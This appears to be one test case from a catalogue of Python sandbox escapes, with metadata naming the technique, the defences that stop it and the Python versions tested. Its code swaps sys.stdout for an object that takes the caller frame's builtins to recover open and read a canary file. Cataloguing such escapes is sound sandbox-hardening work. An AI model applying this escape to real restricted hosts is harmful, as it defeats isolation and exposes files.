# id: stdio-object-replacement
# family: interpreter-hooks
# kind: escape
# invariant: B, D, E
# origin: general knowledge of hosts that print
# technique: whatever replaces sys.stdout is called by every function that prints, from that function's frame
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import calendar


class Output:
    def write(self, text):
        calendar.sys.stdout = kept
        frame = calendar.sys._getframe(1)
        print(frame.f_builtins["open"]("canary.txt").read())

    def flush(self):
        pass


kept, output = calendar.sys.stdout, Output()
calendar.sys.stdout = output
calendar.prmonth(2000, 1)
